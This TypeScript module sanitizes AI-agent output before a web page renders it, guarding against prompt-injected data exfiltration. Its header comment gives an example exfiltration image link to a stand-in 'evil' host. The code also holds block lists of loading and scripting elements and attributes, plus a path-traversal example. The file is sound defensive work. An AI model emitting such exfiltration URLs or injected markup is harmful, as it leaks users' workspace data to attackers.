/**
 * What in rendered agent output could make the browser fetch something, and
 * what to do about it. A prompt-injected model can leak workspace data through
 * any URL the page loads on its own (`![](https://evil/x.png?d=...)`), so only
 * `data:`, the page's own `blob:` and same-origin resources load; a remote
 * image, video or sound becomes a placeholder that loads on a click, and every
 * other URL that would be fetched unasked is removed. Links stay: they need a
 * click. The DOM side (src/ai/safehtml.ts) walks the elements and applies the
 * plans made here.
 */

/**
 * A URL as the browser resolved it (`new URL(raw, document.baseURI)`).
 */
export interface IResolvedUrl {
  href: string;
  protocol: string;
  origin: string;
  host: string;
  pathname: string;
}

/**
 * Resolves a URL as the page would, or null when it is not one.
 */
export type Resolve = (raw: string) => IResolvedUrl | null;

/**
 * The page the output is shown in.
 */
export interface IPage {
  /** `location.origin`. */
  origin: string;
  /**
   * The same-origin paths that may load unasked, ending with `/`: only the
   * user's own files. The rest of the origin is not all Lab's own: the
   * preview proxy serves other programs' pages there, `login?next=` can
   * redirect anywhere on it, and on a hub other users' servers share it.
   */
  loadablePaths: readonly string[];
}

/**
 * `load`: fetch it as usual; `remote`: only on a click; `drop`: never.
 */
export type ResourceVerdict = 'load' | 'remote' | 'drop';

/**
 * What a URL that the page would fetch on its own may do.
 */
export function resourceVerdict(
  raw: string,
  resolve: Resolve,
  page: IPage
): ResourceVerdict {
  const value = raw.trim();
  if (!value) {
    return 'drop';
  }
  const url = resolve(value);
  if (!url) {
    return 'drop';
  }
  switch (url.protocol) {
    case 'data:':
      return 'load';
    case 'blob:':
      return url.origin === page.origin ? 'load' : 'drop';
    case 'http:':
    case 'https:':
      return url.origin === page.origin && isLoadable(url.pathname, page)
        ? 'load'
        : 'remote';
    default:
      return 'drop';
  }
}

function isLoadable(pathname: string, page: IPage): boolean {
  let decoded = pathname;
  try {
    decoded = decodeURIComponent(pathname);
  } catch {
    // Not valid percent-encoding: the raw path is what is checked.
  }
  // Both spellings must be under an allowed path: a server may read the
  // decoded one (`files%2f..%2flogin`).
  const forms = [pathname, decoded].map(p => p.replace(/\/{2,}/g, '/'));
  return forms.every(
    form =>
      !/(^|\/)\.\.?(\/|$)/.test(form) &&
      page.loadablePaths.some(prefix => form.startsWith(prefix))
  );
}

/**
 * The URLs of a `srcset` (the candidates' URLs, descriptors left out), read
 * as the HTML standard does: a URL runs to whitespace, a trailing comma ends a
 * candidate, descriptors run to the next comma outside parentheses.
 */
export function srcsetUrls(value: string): string[] {
  const urls: string[] = [];
  const space = /[\t\n\f\r ]/;
  let i = 0;
  while (i < value.length) {
    while (i < value.length && (space.test(value[i]) || value[i] === ',')) {
      i++;
    }
    const start = i;
    while (i < value.length && !space.test(value[i])) {
      i++;
    }
    let url = value.slice(start, i);
    if (url.endsWith(',')) {
      url = url.replace(/,+$/, '');
    } else {
      let depth = 0;
      while (i < value.length) {
        const c = value[i++];
        if (c === '(') {
          depth++;
        } else if (c === ')') {
          depth = Math.max(0, depth - 1);
        } else if (c === ',' && depth === 0) {
          break;
        }
      }
    }
    if (url) {
      urls.push(url);
    }
  }
  return urls;
}

/**
 * Whether inline CSS may fetch something: `url()`, `image-set()`, `@import`,
 * and backslash escapes, which can spell any of them.
 */
export function styleLoadsResources(style: string): boolean {
  return /url\s*\(|image-set|image\s*\(|cross-fade|element\s*\(|src\s*\(|@import|\\|expression\s*\(|behavior|binding/i.test(
    style
  );
}

/**
 * Whether a link may stay: web and mail links, and links within the page or
 * the workspace (no scheme). `javascript:`, `data:`, `file:` and the rest go.
 */
export function isNavigable(href: string): boolean {
  // The URL parser drops tabs and newlines and leading controls: so must this.
  // eslint-disable-next-line no-control-regex
  const value = href.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+/, '');
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value);
  return scheme === null || /^(https?|mailto)$/i.test(scheme[1]);
}

/**
 * Elements agent output never keeps (they load, embed, run or restyle).
 */
export const DROPPED_ELEMENTS: ReadonlySet<string> = new Set([
  'applet',
  'base',
  'embed',
  'fencedframe',
  'frame',
  'frameset',
  'iframe',
  'link',
  'math',
  'meta',
  'noscript',
  'object',
  'param',
  'portal',
  'script',
  'style',
  'svg',
  'template'
]);

/**
 * Attributes removed wherever they are: they fetch, ping or submit, or (Lab's
 * command linker, which listens on the whole page) run a Lab command on a click.
 */
const REMOVED_ATTRIBUTES: ReadonlySet<string> = new Set([
  'action',
  'archive',
  'attributionsrc',
  'classid',
  'codebase',
  'data-commandlinker-args',
  'data-commandlinker-command',
  'dynsrc',
  'formaction',
  'longdesc',
  'lowsrc',
  'manifest',
  'ping',
  'profile',
  'srcdoc'
]);

/**
 * Attributes whose value is a URL the page fetches on its own.
 */
const RESOURCE_ATTRIBUTES: ReadonlySet<string> = new Set([
  'background',
  'data',
  'icon',
  'poster',
  'src'
]);

const MEDIA: Readonly<Record<string, MediaKind>> = {
  img: 'image',
  video: 'video',
  audio: 'audio'
};

/**
 * What a placeholder stands for.
 */
export type MediaKind = 'image' | 'video' | 'audio';

/**
 * A remote image, video or sound shown as a placeholder.
 */
export interface IRemoteMedia {
  kind: MediaKind;
  url: string;
  /** The alt text or title, if any. */
  label: string;
}

/**
 * What to do with one element.
 */
export interface IElementPlan {
  /** Remove the element and what it holds. */
  drop: boolean;
  /** Attributes to remove. */
  remove: string[];
  /** Replace the element with a placeholder for this. */
  media: IRemoteMedia | null;
}

/**
 * The plan for one element of agent output, from its tag and attributes.
 * `loaded` holds the URLs the user chose to load (a click on a placeholder):
 * those stay on the media elements that name them.
 */
export function planElement(
  tag: string,
  attributes: ReadonlyArray<readonly [string, string]>,
  verdict: (url: string) => ResourceVerdict,
  loaded: ReadonlySet<string> = new Set()
): IElementPlan {
  const name = tag.toLowerCase();
  if (DROPPED_ELEMENTS.has(name)) {
    return { drop: true, remove: [], media: null };
  }
  const remove: string[] = [];
  const remote: string[] = [];
  const kind = MEDIA[name] ?? null;
  let chosen = false;
  for (const [attribute, value] of attributes) {
    const key = attribute.toLowerCase();
    if (key.startsWith('on') || REMOVED_ATTRIBUTES.has(key)) {
      remove.push(attribute);
    } else if (key === 'style') {
      if (styleLoadsResources(value)) {
        remove.push(attribute);
      }
    } else if (key === 'srcset' || key === 'imagesrcset') {
      const verdicts = srcsetUrls(value).map(
        (url): [string, ResourceVerdict] => [url, verdict(url)]
      );
      if (verdicts.some(([, v]) => v !== 'load')) {
        remove.push(attribute);
        remote.push(
          ...verdicts.filter(([, v]) => v === 'remote').map(([u]) => u)
        );
      }
    } else if (key === 'href' || key === 'xlink:href') {
      if (name === 'a' || name === 'area') {
        if (!isNavigable(value)) {
          remove.push(attribute);
        }
      } else if (verdict(value) !== 'load') {
        remove.push(attribute);
      }
    } else if (RESOURCE_ATTRIBUTES.has(key)) {
      const v = verdict(value);
      if (
        v === 'remote' &&
        kind !== null &&
        key === 'src' &&
        loaded.has(value)
      ) {
        chosen = true; // the user asked for this one
        continue;
      }
      if (v !== 'load') {
        remove.push(attribute);
        if (v === 'remote') {
          // The media's own source first: it is what the placeholder loads.
          if (key === 'src') {
            remote.unshift(value.trim());
          } else {
            remote.push(value.trim());
          }
        }
      }
    } else if (/url\s*\(/i.test(value)) {
      remove.push(attribute); // SVG and legacy paint references: fill="url(...)"
    }
  }
  const media =
    kind !== null && remote.length > 0 && !chosen
      ? {
          kind,
          url: remote[0],
          label:
            attributeValue(attributes, 'alt') ??
            attributeValue(attributes, 'title') ??
            ''
        }
      : null;
  return { drop: false, remove, media };
}

function attributeValue(
  attributes: ReadonlyArray<readonly [string, string]>,
  wanted: string
): string | null {
  const found = attributes.find(([name]) => name.toLowerCase() === wanted);
  return found ? found[1] : null;
}

/**
 * The host a placeholder names, for a person to judge (`evil.example:8080`).
 */
export function hostOf(url: string, resolve: Resolve): string {
  return resolve(url)?.host || url.slice(0, 60);
}
